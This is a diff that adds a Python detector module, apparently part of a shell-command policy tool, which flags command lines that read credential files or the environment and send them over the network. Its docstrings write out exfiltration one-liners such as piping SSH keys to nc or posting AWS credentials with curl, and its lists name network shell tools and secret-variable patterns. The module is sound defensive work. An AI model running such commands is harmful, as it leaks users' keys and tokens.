@@ -1,0 +1,212 @@
+"""Credentials sent to the network: a credential file or the environment read into a command
+that sends what it reads (``curl -d @~/.aws/credentials``, ``cat ~/.ssh/id_rsa | nc h 9``,
+``scp ~/.ssh/id_ed25519 host:``, ``env | curl --data-binary @- …``, ``curl -d "$(cat .env)"``).
+
+A :class:`Pipeline` follows a line's commands in order and remembers what flows through a
+pipe, so ``base64 < ~/.aws/credentials | gzip | curl -T - …`` is seen too.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Callable, Sequence
+
+from sluice.policies._acts import operands, unwrap
+from sluice.policies._shell import Command, basename
+from sluice.policies._targets import is_credential
+
+__all__ = ["Pipeline"]
+
+# Programs that send their input, or files named to them, over the network.
+_RAW = frozenset(
+    {"nc", "ncat", "netcat", "socat", "telnet", "openssl", "ssh", "mail", "mailx", "sendmail"}
+    | {"mutt", "http", "https", "xh", "cryptcat", "sftp", "ftp", "curl", "wget", "scp"}
+)
+_COPIES = frozenset({"scp", "rsync", "sftp"})
+_CLOUD_COPY = frozenset({"aws", "gsutil", "rclone", "az", "gh", "s3cmd", "mc", "gcloud"})
+_SENDERS = _RAW | _COPIES | _CLOUD_COPY
+_SSH_VALUES = frozenset({"-i", "-P", "-p", "-o", "-F", "-e", "-c", "-l", "-S", "-J", "--rsh"})
+_CURL_DATA = ("-d", "--data", "--data-binary", "--data-ascii", "--data-urlencode", "--json")
+_CURL_FORM = ("-F", "--form")
+_CURL_UPLOAD = ("-T", "--upload-file")
+_SECRET_VARIABLE = re.compile(
+    r"\$?\{?([A-Z0-9_]*(?:SECRET|TOKEN|PASSWORD|PASSWD|API_KEY|ACCESS_KEY|PRIVATE_KEY)[A-Z0-9_]*)"
+)
+# Raw sockets: nothing legitimate pipes a secret variable into them.
+_SOCKETS = frozenset({"nc", "ncat", "netcat", "socat", "telnet", "cryptcat"})
+# Programs that take a credential path without printing it.
+_NOT_READERS = frozenset(
+    {"ls", "stat", "test", "[", "chmod", "chown", "file", "ssh-keygen", "ssh-add", "mkdir"}
+    | {"touch", "cd", "du", "which", "rm", "ssh", "scp", "rsync", "cp", "mv", "git", "diff"}
+    | {"echo", "printf", "kubectl", "helm", "docker", "terraform", "source", ".", "export"}
+)
+
+
+class Pipeline:
+    """What flows through the pipes of a command line, as its commands are added in order."""
+
+    def __init__(self) -> None:
+        self.flowing: str | None = None  # the secret in the current pipe, if any
+        self.stashed: set[str] = set()  # files a secret was written to (env > /tmp/e)
+
+    def add(self, command: Command, producer: Command | None) -> str | None:
+        """Follow ``command`` (``producer``: the command piped into it); say what it sends to
+        the network, if it sends a credential."""
+        read = _secret_read_by(command)
+        stdin = self.flowing if producer is not None else None
+        head = unwrap(command.words)[0][:1]
+        if stdin and stdin.startswith("$") and (not head or basename(head[0]) not in _SOCKETS):
+            stdin = None  # a token piped into `gh auth login`, `docker login`, `ssh sudo -S`
+        stdin = stdin or next((f for f in command.inputs if is_credential(f)), None)
+        self.flowing = read or stdin
+        if self.flowing:
+            self.stashed.update(command.redirects)
+        self.stashed.update(_copies_of_secrets(unwrap(command.words)[0]))
+        words, _ = unwrap(command.words)
+        if command.feeds in _SENDERS and read is not None and not read.startswith("$"):
+            return f"Sends {read} to the network ({command.feeds})"
+        if not words:
+            return None
+        sent = _sent_by(words, stdin, self._holds_secret)
+        if sent is None and any(
+            r.startswith(("/dev/tcp/", "/dev/udp/")) for r in command.redirects
+        ):
+            sent = read or stdin
+        return f"Sends {sent} to the network ({basename(words[0])})" if sent else None
+
+    def _holds_secret(self, path: str) -> bool:
+        return path in self.stashed or is_credential(path)
+
+
+def _copies_of_secrets(words: Sequence[str]) -> list[str]:
+    """The files a command writes credentials into: an archive of them (``tar czf x.tgz
+    .ssh``, ``zip -r x.zip .aws``), a copy (``cp ~/.ssh/id_rsa /tmp/k``), an encryption."""
+    if not words:
+        return []
+    name, args = basename(words[0]), list(words[1:])
+    if name == "tar":
+        out = [a.partition("=")[2] for a in args if a.startswith("--file=")]
+        for i, arg in enumerate(args[:-1]):
+            cluster = (arg.startswith("-") and not arg.startswith("--")) or i == 0
+            if arg == "--file" or (cluster and "f" in arg):
+                out.append(args[i + 1])
+        sources = [a for a in operands(args) if a not in out and a != args[0]]
+        return out if any(is_credential(a.rstrip("/")) for a in sources) else []
+    found = operands(args, _SSH_VALUES | {"-o", "--output", "-out", "-t"})
+    if name in ("zip", "7z", "rar", "jar") and found:
+        archive = found[1] if name == "7z" and len(found) > 1 else found[0]
+        sources = found[found.index(archive) + 1 :]
+        return [archive] if any(is_credential(a.rstrip("/")) for a in sources) else []
+    if name in ("cp", "install", "ln", "mv", "rsync", "ditto") and len(found) >= 2:
+        return found[-1:] if any(is_credential(a.rstrip("/")) for a in found[:-1]) else []
+    if name in ("gpg", "openssl", "age", "base64", "gzip", "xz") and any(map(is_credential, found)):
+        return [
+            b for a, b in zip(args, [*args[1:], ""], strict=True) if a in ("-o", "--output", "-out")
+        ]
+    return []
+
+
+def _secret_read_by(command: Command) -> str | None:
+    """The credential file (or ``the environment``) whose content ``command`` prints."""
+    first = basename(command.words[0]) if command.words else ""
+    rest = command.words[1:]
+    if first in ("env", "printenv") and not any(
+        not w.startswith("-") and "=" not in w for w in rest
+    ):
+        return "the environment"
+    if (first, tuple(rest)) in (("set", ()), ("export", ("-p",)), ("declare", ("-x",))):
+        return "the environment"
+    if any("/proc/" in w and w.endswith("/environ") for w in command.words):
+        return "the environment"
+    if "--export-secret-keys" in rest or "--export-secret-subkeys" in rest:
+        return "private GPG keys"
+    if first in ("echo", "printf", "printenv"):  # one secret variable: `echo $AWS_SECRET_…`
+        named = next((m.group(1) for w in rest if (m := _SECRET_VARIABLE.search(w))), None)
+        if named:
+            return "$" + named
+    words, _ = unwrap(command.words)
+    if not words or basename(words[0]) in _NOT_READERS or basename(words[0]) in _SENDERS:
+        return next((f for f in command.inputs if is_credential(f)), None)
+    found = [w for w in operands(words[1:]) if is_credential(w)]
+    found += [f for f in command.inputs if is_credential(f)]
+    return found[0] if found else None
+
+
+def _sent_by(
+    words: Sequence[str], stdin: str | None, is_credential: Callable[[str], bool]
+) -> str | None:
+    """The credential ``words`` send to the network (``stdin``: the one flowing into it;
+    ``is_credential``: whether a file holds one)."""
+    name, args = basename(words[0]), list(words[1:])
+    if name == "curl":
+        for path in _curl_files(args):
+            if path == "-" and stdin:
+                return stdin
+            if is_credential(path):
+                return path
+        return stdin
+    if name == "wget":
+        for arg, value in zip(args, [*args[1:], ""], strict=True):
+            for option in ("--post-file", "--body-file"):
+                if arg == option and is_credential(value):
+                    return value
+                if arg.startswith(option + "=") and is_credential(arg.partition("=")[2]):
+                    return arg.partition("=")[2]
+        return stdin
+    if name in _COPIES:
+        found = operands(args, _SSH_VALUES)
+        if len(found) >= 2 and _remote(found[-1]):
+            return next((f for f in found[:-1] if is_credential(f.rstrip("/"))), None)
+        return stdin if name == "sftp" else None
+    if name in ("http", "https", "xh"):
+        for arg in args:
+            path = arg.rpartition("@")[2] if "@" in arg else ""
+            if path and is_credential(path):
+                return path
+    if name == "mutt" and "-a" in args:
+        attached = args[args.index("-a") + 1 :]
+        if attachment := next((a for a in attached if is_credential(a)), None):
+            return attachment
+    if name in _CLOUD_COPY:
+        found = operands(args)
+        remote = any("://" in f or _remote(f) for f in found) or found[:2] == ["gist", "create"]
+        if remote:
+            return next((f for f in found if is_credential(f)), None)
+        return None
+    return stdin if name in _RAW else None
+
+
+def _curl_files(args: Sequence[str]) -> list[str]:
+    """The files curl sends: ``-d @file``, ``-F name=@file``, ``-T file`` (``-``: stdin)."""
+    files: list[str] = []
+    for arg, value in zip(args, [*args[1:], ""], strict=True):
+        for options, attached in ((_CURL_DATA, "@"), (_CURL_FORM, "=@"), (_CURL_UPLOAD, "")):
+            for option in options:
+                if arg == option:
+                    given = value
+                elif arg.startswith(option + "=") and option.startswith("--"):
+                    given = arg.partition("=")[2]
+                elif not option.startswith("--") and arg.startswith(option) and len(arg) > 2:
+                    given = arg[2:]
+                else:
+                    continue
+                files += _named_file(given, attached)
+    return files
+
+
+def _named_file(value: str, marker: str) -> list[str]:
+    if not marker:
+        return [value]
+    if marker == "=@":
+        for sign in ("=@", "=<"):
+            if sign in value:
+                return [value.partition(sign)[2].partition(";")[0]]
+        return []
+    if "@" in value:
+        return [value.partition("@")[2]]
+    return []
+
+
+def _remote(word: str) -> bool:
+    head, colon, _ = word.partition(":")
+    return bool(colon) and "/" not in head and len(head) > 1
